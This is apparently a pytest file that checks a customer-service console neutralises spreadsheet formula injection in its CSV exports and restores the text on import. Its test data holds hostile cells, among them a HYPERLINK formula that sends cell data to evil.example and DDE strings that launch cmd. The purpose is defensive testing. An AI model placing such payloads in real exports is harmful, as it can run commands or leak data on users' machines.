"""CSV exports never hand a spreadsheet a live formula (issue 10, item 7), and `kb import` of a
neutralised export gives every text back exactly."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from kb_fixture import ENTRIES, write_kb
from returns_fixture import build

from cs_console.cli.kb import kb
from cs_console.cli.returns import ALLERGY_COLUMNS, RETURN_COLUMNS, _csv
from cs_console.cli.root import main
from cs_console.csvsafe import DANGEROUS, csv_text, neutralise, restore
from cs_console.kb.csvio import export_csv, import_csv
from cs_console.kb.loader import load_kb
from cs_console.store.db import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run (OWASP: starts with = + - @ tab CR), unless a number."""
    return cell.startswith(DANGEROUS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- the function ---------------------------------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_gets_one_quote_in_front(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["-12.5", "-3", "-1e-05", "0", "12.50"])
def test_a_plain_number_stays_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell and restore(cell) == cell


@pytest.mark.parametrize("cell", ["", "hello", "'quoted", "a=b", " =1", "过敏", "'", "''"])
def test_harmless_cells_are_unchanged_both_ways(cell: str) -> None:
    assert neutralise(cell) == cell and restore(cell) == cell


def test_a_cell_already_starting_with_quote_and_formula_keeps_its_quote() -> None:
    # '=x must come back as '=x after import, so the export writes ''=x
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
    assert neutralise("'-12") == "''-12" and restore("''-12") == "'-12"


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text())
def test_no_neutralised_cell_is_live(text: str) -> None:
    assert not _live(neutralise(text))


def test_csv_text_neutralises_strings_only_unless_raw() -> None:
    rows = [{"note": HOSTILE[0], "amount": -12.5, "qty": -3, "none": None}]
    safe = list(csv.DictReader(io.StringIO(csv_text(rows, ["note", "amount", "qty", "none"]))))
    assert safe == [{"note": "'" + HOSTILE[0], "amount": "-12.5", "qty": "-3", "none": ""}]
    raw = list(
        csv.DictReader(io.StringIO(csv_text(rows, ["note"], raw=True, extrasaction="ignore")))
    )
    assert raw == [{"note": HOSTILE[0]}]


# -- kb export / import -------------------------------------------------------------------------

HOSTILE_ARTICLE = """+++
slug = "formula-article"
title = "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"
title_zh = "+cmd|' /C calc'!A0"
category = "after-sale"
question = "@SUM(1+1)"
aliases = ["-2+3", "'=already quoted", "普通"]
tags = ["=tag"]
+++

- a markdown list item that a spreadsheet would read as a formula
- second item

## 话术 · 回复
-1+1 {{customer_name}}您好。{{cursor}}
"""


@pytest.fixture
def hostile_kb(tmp_path: Path) -> Path:
    entries = {**ENTRIES, "formula-article": ("articles", HOSTILE_ARTICLE)}
    root = write_kb(tmp_path / "kb", entries)
    assert load_kb(root).problems == []
    return root


def _same(a_dir: Path, b_dir: Path) -> None:
    def relative(arts):
        return [dataclasses.replace(x, path=Path(x.path.parent.name, x.path.name)) for x in arts]

    a, b = load_kb(a_dir), load_kb(b_dir)
    assert b.problems == []
    assert relative(a.articles) == relative(b.articles)


def test_kb_export_has_no_live_cell(hostile_kb: Path) -> None:
    text, problems = export_csv(hostile_kb)
    assert problems == []
    assert not [cell for cell in _cells(text) if _live(cell)]
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "formula-article")
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["question"] == "'@SUM(1+1)"
    assert row["aliases"].startswith("'-2+3|")
    assert row["body"].startswith("'- a markdown list item")
    assert row["scripts"].startswith("## 话术")  # harmless cells untouched


def test_kb_export_then_import_gives_the_original_text_back(
    hostile_kb: Path, tmp_path: Path
) -> None:
    text, _ = export_csv(hostile_kb)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(text, encoding="utf-8")
    result = import_csv(sheet, tmp_path / "copy")
    assert result.problems == []
    _same(hostile_kb, tmp_path / "copy")
    copied = (tmp_path / "copy" / "articles" / "formula-article.md").read_text(encoding="utf-8")
    assert "'=already quoted" in copied and '"=tag"' in copied
    assert export_csv(tmp_path / "copy")[0] == text


def test_kb_raw_export_keeps_formulas_and_raw_import_takes_them_as_they_are(
    hostile_kb: Path, tmp_path: Path
) -> None:
    text, _ = export_csv(hostile_kb, raw=True)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "formula-article")
    assert row["title"].startswith("=HYPERLINK(") and row["question"] == "@SUM(1+1)"
    sheet = tmp_path / "raw.csv"
    sheet.write_text(text, encoding="utf-8")
    assert import_csv(sheet, tmp_path / "copy", raw=True).problems == []
    _same(hostile_kb, tmp_path / "copy")


def test_kb_cli_export_neutralises_and_raw_does_not(hostile_kb: Path, tmp_path: Path) -> None:
    runner, obj = CliRunner(), {"kb_dir": hostile_kb}
    safe = runner.invoke(kb, ["export"], obj=obj)
    assert safe.exit_code == 0 and not [c for c in _cells(safe.output) if _live(c)]
    raw = runner.invoke(kb, ["export", "--raw"], obj=obj)
    assert raw.exit_code == 0 and any(c.startswith("=HYPERLINK(") for c in _cells(raw.output))
    help_text = CliRunner().invoke(main, ["--lang", "en", "kb", "export", "--help"]).output
    assert "Dangerous" in help_text

    out = tmp_path / "kb.csv"
    assert runner.invoke(kb, ["export", "--out", str(out)], obj=obj).exit_code == 0
    res = runner.invoke(kb, ["import", str(out), "--into", str(tmp_path / "new")], obj=obj)
    assert res.exit_code == 0, res.output
    _same(hostile_kb, tmp_path / "new")


# -- allergy-cases --csv and returns --csv ----------------------------------------------------


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("CS_CONSOLE_CONFIG", str(tmp_path / "config.toml"))
    (tmp_path / "config.toml").write_text("", encoding="utf-8")
    for name in ("CS_CONSOLE_DB", "CS_CONSOLE_AGENT", "CS_CONSOLE_ROLE", "CS_CONSOLE_AGENT_NAME"):
        monkeypatch.delenv(name, raising=False)
    path = tmp_path / "cache.db"
    with Store.open(path) as store:
        tickets = build(store)
    return path, tickets


def _run(*args: object):
    return CliRunner().invoke(main, [str(a) for a in args])


def test_allergy_cases_csv_neutralises_customer_symptoms(cache) -> None:
    db, T = cache
    symptoms = HOSTILE[0]
    filed = _run(
        "return", "--db", db, "--ticket", T["allergy"], "--sku", "SR-003",
        "--reason", "allergy", "--batch", "B041", "--symptoms", symptoms,
    )  # fmt: skip
    assert filed.exit_code == 0, filed.output
    safe = _run("allergy-cases", "--db", db, "--csv")
    assert safe.exit_code == 0, safe.output
    rows = list(csv.DictReader(io.StringIO(safe.output)))
    assert rows[0]["symptoms"] == "'" + symptoms
    assert not [cell for cell in _cells(safe.output) if _live(cell)]
    raw = _run("allergy-cases", "--db", db, "--csv", "--raw")
    assert list(csv.DictReader(io.StringIO(raw.output)))[0]["symptoms"] == symptoms
    assert "Dangerous" in _run("--lang", "en", "allergy-cases", "--help").output


def test_returns_csv_runs_with_and_without_raw(cache) -> None:
    db, T = cache
    filed = _run(
        "return", "--db", db, "--ticket", T["cosmetics"], "--sku", "SR-003", "--reason", "unopened"
    )
    assert filed.exit_code == 0, filed.output
    safe = _run("returns", "--db", db, "--csv")
    raw = _run("returns", "--db", db, "--csv", "--raw")
    assert safe.exit_code == raw.exit_code == 0
    assert safe.output == raw.output  # nothing dangerous in it: neutralising changes nothing
    assert "Dangerous" in _run("--lang", "en", "returns", "--help").output


def test_the_report_csv_helper_neutralises_text_and_keeps_numbers() -> None:
    row = {column: "" for column in RETURN_COLUMNS}
    row.update(approval_note="+cmd|' /C calc'!A0", amount=-12.5, qty=2, batch_no="-2+3")
    out = list(csv.DictReader(io.StringIO(_csv([row], RETURN_COLUMNS))))[0]
    assert out["approval_note"] == "'+cmd|' /C calc'!A0" and out["batch_no"] == "'-2+3"
    assert out["amount"] == "-12.5" and out["qty"] == "2"
    raw = list(csv.DictReader(io.StringIO(_csv([row], RETURN_COLUMNS, raw=True))))[0]
    assert raw["approval_note"] == "+cmd|' /C calc'!A0"
    allergy = {column: "" for column in ALLERGY_COLUMNS} | {"symptoms": "\t=1+1", "extra": "x"}
    assert (
        list(csv.DictReader(io.StringIO(_csv([allergy], ALLERGY_COLUMNS))))[0]["symptoms"]
        == "'\t=1+1"
    )
